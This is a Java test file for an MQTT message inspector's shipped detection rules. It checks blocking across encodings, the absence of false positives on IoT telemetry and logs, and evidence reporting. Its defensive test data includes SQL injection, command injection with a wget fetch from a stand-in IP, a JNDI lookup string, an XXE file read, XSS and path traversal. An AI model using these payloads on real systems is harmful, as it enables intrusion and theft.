package io.mqttsentinel.pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.mqttsentinel.schemas.Action;
import io.mqttsentinel.schemas.Envelope;
import io.mqttsentinel.schemas.Evidence;
import io.mqttsentinel.schemas.Finding;
import io.mqttsentinel.schemas.Severity;
import io.mqttsentinel.schemas.TopicFilter;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the shipped pack promises. */
final class ShippedRulesTest {

  private static final PatternInspector INSPECTOR =
      ShippedRules.inspector(TopicFilter.of("clients/+/alerts"));

  @Test
  void everyFileIsListed() throws IOException, URISyntaxException {
    Path directory = Path.of(ShippedRulesTest.class.getResource("/rules").toURI());
    try (Stream<Path> files = Files.list(directory)) {
      assertEquals(
          RuleSource.Shipped.FILES,
          files.map(file -> file.getFileName().toString()).sorted().toList());
    }
  }

  @Test
  void everyRuleHasTestsAndThreatsHaveATag() {
    ShippedRules.files()
        .forEach(
            (name, yaml) -> {
              RuleFile file = RuleFile.parse(name, yaml);
              assertTrue(file.version().isPresent(), name);
              file.alertValidation()
                  .forEach(rule -> assertFalse(rule.matching().isEmpty(), rule.id()));
              for (Rule rule : file.threats()) {
                assertFalse(rule.matching().isEmpty(), rule.id());
                assertFalse(rule.notMatching().isEmpty(), rule.id());
                assertFalse(rule.description().isEmpty(), rule.id());
                assertFalse(rule.tags().isEmpty(), rule.id());
              }
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; DROP TABLE users; --",
        "' OR '1'='1",
        "' or 1=1 --",
        "; cat /etc/passwd",
        "$(wget http://198.51.100.1/x.sh)",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "1 UNION SELECT username, password FROM users",
        "${jndi:ldap://198.51.100.1/a}",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
      })
  void blocksAttacksInEveryCarrier(String attack) {
    byte[] bytes = attack.getBytes(StandardCharsets.UTF_8);
    StringBuilder unicode = new StringBuilder();
    StringBuilder percent = new StringBuilder();
    StringBuilder entities = new StringBuilder();
    for (byte b : bytes) {
      unicode.append("\\u%04x".formatted(b));
      percent.append("%%%02X".formatted(b));
      entities.append("&#x%x;".formatted(b));
    }
    String base64 = Base64.getEncoder().encodeToString(bytes);
    String quoted = attack.replace("\\", "\\\\").replace("\"", "\\\"");
    for (String payload :
        List.of(
            attack,
            "{\"id\":7,\"msg\":\"" + quoted + "\"}",
            "{\"msg\":\"" + unicode + "\"}",
            "{\"msg\":\"" + percent + "\"}",
            percent.toString(),
            percent.toString().replace("%", "%25"),
            entities.toString(),
            "{\"msg\":\"" + base64 + "\"}",
            base64,
            "{\"msg\":\"" + HexFormat.of().formatHex(bytes) + "\"}")) {
      assertEquals(Action.BLOCK, action(payload), payload);
    }
    assertEquals(Action.BLOCK, action(attack.getBytes(StandardCharsets.UTF_16LE)), "UTF-16");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "23.5",
        "ON",
        "{\"temp\":21.5,\"hum\":40,\"ts\":1760701604,\"id\":\"a4c138-ff-01\"}",
        "{\"device\":\"d-1\",\"msg\":\"door opened and closed = normal\"}",
        "{\"brand\":\"Govee\",\"model\":\"Bluetooth BBQ\",\"mac\":\"AA:BB:CC:DD:EE:FF\"}",
        "$GPGGA,123519,4807.038,N,01131.000,E,1,08,0.9,545.4,M,46.9,M,,*47",
        "2026-03-01T12:00:00Z INFO wifi: connected to 'home' (rssi -61), ip 192.168.1.7",
        "E (1234) mqtt: can't connect; retry in 5 s",
        "{\"lat\":48.1,\"lon\":11.5,\"name\":\"O'Brien's gate\"}",
        "user admin logged in from 10.0.0.7 & session opened",
        "{\"state_template\":\"{{ value_json.state }}\",\"unique_id\":\"lamp_1\"}",
        "{\"fw\":\"http://updates.example.com/v1.2/fw.bin\",\"sha\":\"9f86d081884c7d65\"}",
        "{\"m\":\"\\u6e29\\u5ea6\\u8fc7\\u9ad8, \\u65e5\\u672c\"}",
        "weather,id=7 temp=21.5,location=\"hall 2\" 1760000000000000000",
        "wal,host=gw-1,path=/var/lib/influxdb/wal/2,id=2 used=7i 1760000000000000000",
        "influxdb,url=http://127.0.0.1:8086/debug/vars queries=3i 1760000000000000000",
        "*HQ,356327080425330,V1,A,2702.7245,S,15251.9311,E,0.48,0.00,080917#",
        "!AIVDM,1,1,,A,15Q:RP002i0FHd<N`aGafWlb0<<N,0*5E",
        "timestamp;measurement;host;key;value",
        "{\"state\":\"stopped (runtime: {executiontime} s)\"}",
        "<unit><gps id=\"7\" data=\"51,A,4444.4158,N,02025.4466,E\"/></unit>",
      })
  void leavesOrdinaryMessagesAlone(String payload) {
    assertEquals(
        List.of(),
        findings("clients/dev-1/data", payload).stream().map(Finding::getRuleId).toList());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ls -la /tmp",
        "cat /var/log/messages | grep wifi",
        "ifconfig wlan0 up; sleep 2; ping -c 3 192.168.1.1",
        "show interfaces | include up",
        "AT+CSQ",
        "Backlog Power1 ON; Delay 10; Power1 OFF",
        "uptime && free -m",
        "SELECT a device from the list",
        "echo $(date)",
        "../src/main.c:42: warning: unused variable",
        "{% if is_state('light.a', 'on') %}on{% endif %}",
        "disk,fstype=ext4,host=gw-1,path=/etc/hosts used=7i 1760000000000000000",
        ":if (($cert->\"id\") = \"\" || ($cert->\"id\") = ($old->\"id\")) do={",
        "averaging window = 60 s; garage door opener. Battery low",
      })
  void doesNotBlockConsolesAndLogs(String payload) {
    Action action = action(payload);
    assertTrue(action.compareTo(Action.FLAG) <= 0, payload + " got " + action);
  }

  @Test
  void aTextOfTwoBytesACharacterIsATextToRules() {
    byte[] wide = "x)(|(and a text".getBytes(StandardCharsets.UTF_16LE);
    assertTrue(
        INSPECTOR.inspect(Messages.of("clients/dev-1/data", wide)).stream()
            .anyMatch(finding -> finding.getRuleId().equals("ldap_operator_fragment")));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "7,dev-1,|id,21.5,ok",
        "7,dev-1,\"' or \"\"a\"\"=\"\"a\",21.5",
        "ts;v\n7;\"|cat \"\"/tmp/x\"\"\"\n",
        "7,dev-1,../../x,21.5",
      })
  void findsAttacksInSeparatedValues(String payload) {
    assertTrue(action(payload).compareTo(Action.ALLOW) > 0, payload);
  }

  @Test
  void alertsMayBeTheWordOrJson() {
    String topic = "clients/dev-1/alerts";
    assertEquals(List.of(), findings(topic, "ALERT"));
    assertEquals(List.of(), findings(topic, "{\"type\":\"smoke\",\"level\":3}"));
    Finding unusual = findings(topic, "smoke in room 3").getFirst();
    assertEquals("alert_format_unusual", unusual.getRuleId());
    assertEquals(Action.FLAG, unusual.getAction());
    assertEquals(Severity.LOW, unusual.getSeverity());
    assertEquals(List.of(), findings("clients/dev-1/data", "smoke in room 3"));
  }

  @Test
  void evidenceNamesFieldViewAndPlace() {
    Finding finding =
        findings("clients/dev-1/data", "{\"v\":\"%27%20OR%20%271%27%3D%271\"}").stream()
            .filter(f -> f.getRuleId().equals("sql_quoted_tautology"))
            .findFirst()
            .orElseThrow();
    Evidence evidence = finding.getEvidence().getFirst();
    assertEquals("payload", evidence.getField());
    assertEquals("json>url", evidence.getView());
    assertEquals(0, evidence.getOffset());
    assertTrue(evidence.getExcerpt().startsWith("' OR '1'='1"), evidence.getExcerpt());
    assertTrue(finding.getTags().contains("CWE-89"));
    assertEquals(INSPECTOR.rules().version(), finding.getRuleVersion());
  }

  @Test
  void looksAtTopicsNamesAndPropertiesToo() {
    var message = Messages.of("clients/<script>/data", "1");
    message.setClientId("dev+1");
    message.setUsername("' or 1=1 --");
    message
        .getProperties()
        .setUserProperties(
            List.of(new io.mqttsentinel.schemas.UserProperty("q", "../../../../etc/passwd")));
    List<Finding> findings = INSPECTOR.inspect(message);
    assertTrue(seen(findings, "xss_script_tag", "topic"), findings.toString());
    assertTrue(seen(findings, "client_id_wildcard", "client_id"), findings.toString());
    assertTrue(seen(findings, "sql_quoted_tautology", "username"), findings.toString());
    assertTrue(seen(findings, "path_deep_traversal", "properties"), findings.toString());
  }

  @Test
  void propertiesAreReadEachForItself() {
    assertTrue(ids(properties("{}", "1' or 1=1 -- ")).contains("sql_syntax"));
    assertTrue(ids(properties("[1]", "q=%3Cscript%3Ealert(1)")).contains("xss_script_tag"));
    assertTrue(ids(properties("it's", "x' or 1=1 -- ")).contains("sql_syntax"));
    assertEquals(List.of(), ids(properties("1 or 1", "=1")));
    assertEquals(List.of(), ids(properties("1 union", "select name, word")));
    assertEquals(List.of(), ids(properties("<scr", "ipt src=x>")));
  }

  @Test
  void binaryCorrelationDataHidesNoProperty() {
    var properties = properties("a", "crawX'#");
    properties.setCorrelationData(java.nio.ByteBuffer.wrap(new byte[] {1, 2, 3, 4, 5, 6, 7, 8}));
    assertTrue(ids(properties).contains("sql_syntax"));
    properties = properties("a", "b");
    properties.setCorrelationData(
        java.nio.ByteBuffer.wrap("x' or 1=1 -- ".getBytes(StandardCharsets.UTF_8)));
    assertTrue(ids(properties).contains("sql_syntax"));
  }

  private static io.mqttsentinel.schemas.MessageProperties properties(String name, String value) {
    return new io.mqttsentinel.schemas.MessageProperties(
        null,
        null,
        null,
        null,
        null,
        List.of(new io.mqttsentinel.schemas.UserProperty(name, value)));
  }

  private static List<String> ids(io.mqttsentinel.schemas.MessageProperties properties) {
    var message = Messages.of("clients/dev-1/data", "1");
    message.setProperties(properties);
    return INSPECTOR.inspect(message).stream().map(Finding::getRuleId).toList();
  }

  private static boolean seen(List<Finding> findings, String rule, String field) {
    return findings.stream()
        .filter(finding -> finding.getRuleId().equals(rule))
        .anyMatch(f -> f.getEvidence().stream().anyMatch(e -> e.getField().equals(field)));
  }

  private static Action action(String payload) {
    return action(payload.getBytes(StandardCharsets.UTF_8));
  }

  private static Action action(byte[] payload) {
    return Envelope.strongest(INSPECTOR.inspect(Messages.of("clients/dev-1/data", payload)));
  }

  private static List<Finding> findings(String topic, String payload) {
    return INSPECTOR.inspect(Messages.of(topic, payload));
  }
}
